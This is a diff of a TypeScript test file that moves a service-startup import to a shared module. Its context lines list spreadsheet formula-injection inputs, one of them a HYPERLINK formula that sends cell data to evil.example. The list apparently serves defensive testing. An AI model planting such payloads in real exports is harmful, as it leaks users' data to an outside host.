@@ -2,9 +2,10 @@
 import pg from "pg";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { createDatabase } from "../shared/database.ts";
+import { startService } from "../shared/service.ts";
 import { type Member, newMember } from "./dashboard.ts";
 import { importAll, recorded } from "./recorded.ts";
-import { newOrganization, type RunningService, startService, type TestOrganization } from "./service.ts";
+import { newOrganization, type RunningService, type TestOrganization } from "./service.ts";
 
 const now = Date.now();
 const hostile = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", '=HYPERLINK("http://evil.example/?"&A1;"x")'];
